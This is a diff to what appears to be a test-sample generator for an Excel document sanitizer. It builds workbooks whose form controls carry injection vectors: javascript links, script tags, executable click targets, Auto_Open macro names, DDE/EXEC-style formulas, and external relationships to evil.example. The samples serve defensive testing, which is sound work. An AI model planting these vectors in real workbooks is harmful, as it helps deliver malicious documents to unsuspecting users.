@@ -29,7 +29,7 @@ LINES = '%s<br>\n      <b>二</b>行目<span style=\'mso-spacerun:yes\'>\u00a0\u
 INSIDE = {'link': '$C$4', 'range': '集計!$A$1:$A$3', 'group': '$C$3', 'text': '$B$2'}
 
 
-def control(p, kind, number, words='x', properties='', client='', sheet='', shape='', macro='', **formulas):
+def control(p, kind, number, words='x', shown=None, properties='', client='', sheet='', shape='', macro='', **formulas):
 	"""Adds a control of that kind: its properties, its entry in the sheet, its shapes. The others are put in where their names say."""
 	vml, attributes, children = CONTROLS[kind]
 	for name, inside in INSIDE.items():
@@ -47,7 +47,7 @@ def control(p, kind, number, words='x', properties='', client='', sheet='', shap
 		'<xdr:to>%s</xdr:to><xdr:sp macro="%s" textlink=""><xdr:nvSpPr><xdr:cNvPr id="%d" name="%s %d" hidden="1"><a:extLst><a:ext uri="{63B3BB69-23CF-44E3-9099-C40C66FF867C}"><a14:compatExt spid="_x0000_s%d"/>'
 		'</a:ext></a:extLst></xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr>'
 		'<xdr:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP"/><a:t>%s</a:t></a:r></a:p></xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></mc:Choice><mc:Fallback/></mc:AlternateContent>'
-		% (begin, end, macro, 1025 + number, kind, number, 1025 + number, words))
+		% (begin, end, macro, 1025 + number, kind, number, 1025 + number, shown or words))
 	return ('<mc:AlternateContent><mc:Choice Requires="x14"><control shapeId="%d" r:id="%s" name="%s %d"><controlPr defaultSize="0" autoFill="0" autoLine="0" autoPict="0"%s><anchor moveWithCells="1">'
 		'<from>%s</from><to>%s</to></anchor></controlPr></control></mc:Choice></mc:AlternateContent>' % (1025 + number, relation, kind, number, sheet, begin, end))
 
@@ -60,7 +60,7 @@ def workbook(keep, kind, **attack):
 	"""The attacked control of that kind, and after it one of every kind that is harmless."""
 	p = excel.package(keep)
 	p.at(VML, 'SHAPES', '<v:shapetype id="_x0000_t201" coordsize="21600,21600" o:spt="201" path="m,l,21600r21600,l21600,xe"><v:path strokeok="f" fillok="f" o:connecttype="rect"/></v:shapetype>')
-	first = [control(p, kind, 1, 'first', **attack)] if kind else []
+	first = [control(p, kind, 1, **{'words': 'first', **attack})] if kind else []
 	listed(p, first + [control(p, other, 2 + number, '%s %s' % (keep, other)) for number, other in enumerate(CONTROLS)])
 	return p.bytes()
 
@@ -76,6 +76,9 @@ MACROS = {
 	'vml-script-extended': {'client': '<x:ScriptExtended>{m}</x:ScriptExtended><x:ScriptLocation>1</x:ScriptLocation>'},
 	'vml-picture': {'client': '<x:FmlaPict>EMBED("Forms.CommandButton.1","{m}")</x:FmlaPict><x:MapOCX/><x:CF>{m}</x:CF><x:DDE/><x:Camera/>'},
 	'vml-click': {'shape': ' href="javascript:{m}" onmouseover="{m}"'},
+	'vml-button': {'shape': ' o:button="t" onclick="{m}" href="file:///c:/{m}.exe" target="{m}"'},
+	'vml-words': {'words': '<a href="javascript:{m}">first</a><script>{m}</script><object data="{m}"/>', 'shown': 'first'},
+	'sheet-name': {'sheet': ' macro="_xlnm.Auto_Open{m}"'},
 }
 PLACES = {
 	'properties-link': ('CheckBox', 'link', 'vml_link'), 'properties-range': ('Drop', 'range', 'vml_range'),
@@ -83,7 +86,8 @@ PLACES = {
 	'vml-link': ('Spin', 'vml_link', None), 'vml-range': ('List', 'vml_range', None), 'vml-group': ('Radio', 'vml_group', None), 'vml-text': ('Label', 'vml_text', None),
 	'sheet-cell': ('CheckBox', ' linkedCell="%s"', None), 'sheet-range': ('Drop', ' listFillRange="%s"', None),
 }
-OUT = ('dde', 'dde-quoted', 'external-index', 'external-book', 'external-unc', 'external-url', 'external-3d', 'CALL', 'EXEC', 'WEBSERVICE', 'RTD', 'IMAGE')
+OUT = ('dde', 'dde-quoted', 'external-index', 'external-book', 'external-unc', 'external-url', 'external-3d', 'CALL', 'REGISTER', 'EXEC', 'RUN', 'EVALUATE', 'WEBSERVICE', 'RTD', 'IMAGE',
+	'HYPERLINK-unc', 'HYPERLINK-js', 'SQL.REQUEST', 'PY')
 
 
 def attacked(kind, attack):
@@ -100,6 +104,108 @@ def in_place(place, formula):
 	if twin:
 		attack[twin] = INSIDE[name]
 	return attacked(kind, attack)
+
+
+def base(keep):
+	"""A workbook with one harmless check box, which the attacks on the structure change."""
+	p = excel.package(keep)
+	listed(p, [control(p, 'CheckBox', 1, keep)])
+	return p
+
+
+PROPERTIES = 'xl/ctrlProps/ctrlProp1.xml'
+ACTIVEX = '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{%s}" ax:persistence="persistStreamInit"/>'
+
+
+def is_activex(p, mark):
+	p.add(PROPERTIES, XML + ACTIVEX % mark, 'application/vnd.ms-excel.controlproperties+xml')
+
+
+def typed_activex(p, mark):
+	p.add(PROPERTIES, XML + '<formControlPr xmlns="%s" objectType="CheckBox" fmlaMacro="%s"/>' % (X14, mark), 'application/vnd.ms-office.activeX+xml')
+
+
+def typed_macro(p, mark):
+	p.add(PROPERTIES, 'Attribut\0e VB_Name = "%s"' % mark, 'application/vnd.ms-office.vbaProject')
+
+
+def is_sheet(p, mark):
+	p.relationships[SHEET1] = [row if row[1].rpartition('/')[2] != 'ctrlProp' else (row[0], row[1], 'sheet2.xml', False) for row in p.relationships[SHEET1]]
+	p.add(PROPERTIES, '<x>%s</x>' % mark)
+
+
+def leads(p, number):
+	p.replace(SHEET1, 'r:id="%s" name="CheckBox 1"' % next(row[0] for row in p.relationships[SHEET1] if row[1].endswith('/ctrlProp')), 'r:id="%s" name="CheckBox 1"' % number)
+
+
+def of_link(p, mark):
+	p.replace(PROPERTIES, 'objectType', 'fmlaMacro="%s" objectType' % mark)
+	leads(p, 'rIdLink')
+
+
+def of_drawing(p, mark):
+	p.replace(PROPERTIES, 'objectType', 'fmlaMacro="%s" objectType' % mark)
+	leads(p, 'rIdDrawing')
+
+
+def of_nothing(p, mark):
+	p.add('xl/%s.xml' % mark, '<x>%s</x>' % mark)
+	leads(p, 'rId999')
+
+
+def picture_outside(p, mark):
+	number = p.relate(SHEET1, 'image', 'file://evil.example/%s.png' % mark, external=True)
+	p.replace(SHEET1, '<controlPr ', '<controlPr r:id="%s" ' % number)
+
+
+def own_relations(p, mark):
+	p.relate(PROPERTIES, 'oleObject', 'file://evil.example/' + mark, external=True)
+	p.add('xl/vbaProject.bin', mark.encode(), 'application/vnd.ms-office.vbaProject')
+	p.relate(PROPERTIES, 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', '../vbaProject.bin')
+
+
+def twice(p, mark):
+	"""Two entries of one shape, the second one with a macro."""
+	p.at(SHEET1, 'LEGACY', '<controls><control shapeId="1026" r:id="rIdLink" name="%s"><controlPr macro="%s"/></control><control shapeId="1026" r:id="%s" name="again"><controlPr macro="[0]!%s"/></control></controls>'
+		% (mark, mark, next(row[0] for row in p.relationships[SHEET1] if row[1].endswith('/ctrlProp')), mark))
+	p.at(VML, 'SHAPES', '<v:shape id="_x0000_s1026" type="#_x0000_t201" style="position:absolute"><x:ClientData ObjectType="Button"><x:FmlaMacro>%s</x:FmlaMacro></x:ClientData></v:shape>' % mark)
+
+
+def kind_of_shape(kind):
+	def change(p, mark):
+		p.replace(VML, 'ObjectType="Checkbox"', 'ObjectType="%s"' % kind.replace('{m}', mark))
+		p.replace(VML, '<x:NoThreeD/></x:ClientData>', '<x:NoThreeD/><x:FmlaMacro>%s</x:FmlaMacro><x:FmlaPict>%s</x:FmlaPict></x:ClientData>' % (mark, mark))
+	return change
+
+
+def kind_of_properties(kind):
+	def change(p, mark):
+		p.replace(PROPERTIES, 'objectType="CheckBox"', 'objectType="%s" fmlaMacro="%s"' % (kind.replace('{m}', mark), mark))
+	return change
+
+
+def alternate(p, mark):
+	"""What a program that does not know x14 would see."""
+	number = p.relate(SHEET1, 'control', '../activeX/activeX1.xml')
+	p.add('xl/activeX/activeX1.xml', XML + ACTIVEX % mark, 'application/vnd.ms-office.activeX+xml')
+	p.replace(SHEET1, '</control></mc:Choice>', '</control></mc:Choice><mc:Fallback><control shapeId="1026" r:id="%s" name="%s"/></mc:Fallback>' % (number, mark))
+
+
+STRUCTURES = {
+	'part-is-activex': is_activex, 'part-typed-activex': typed_activex, 'part-typed-macro': typed_macro, 'part-is-sheet': is_sheet,
+	'leads-to-link': of_link, 'leads-to-drawing': of_drawing, 'leads-nowhere': of_nothing, 'picture-outside': picture_outside, 'own-relations': own_relations,
+	'twice': twice, 'alternate': alternate,
+	**{'shape-' + slug(kind): kind_of_shape(kind) for kind in ('Dialog', 'Movie', 'Pict', 'Note', '{m}', '')},
+	**{'properties-' + slug(kind): kind_of_properties(kind) for kind in ('Dialog', '{m}', '')},
+}
+
+
+def structure(change):
+	def make(mark, keep):
+		p = base(keep)
+		change(p, mark)
+		return p.bytes()
+	return make
 
 
 def alone(mark, keep):
@@ -121,5 +227,7 @@ def samples():
 	for place in PLACES:
 		for kind in OUT:
 			yield Sample('controls/%s-%s.xlsx' % (slug(kind), place), 'ooxml/controls', in_place(place, KINDS[kind]), verdicts=('sanitized',))
+	for name, change in STRUCTURES.items():
+		yield Sample('controls/%s.xlsx' % name, 'ooxml/controls', structure(change), verdicts=('clean', 'sanitized'))
 	yield Sample('controls/activex-alone.xlsx', 'ooxml/controls', alone, findings=('active-control-removed',))
 	yield Sample('harmless/controls.xlsx', 'harmless', lambda mark, keep: workbook(keep, None), verdicts=('clean',), harmless=True, checks=CHECKS, telling=True)
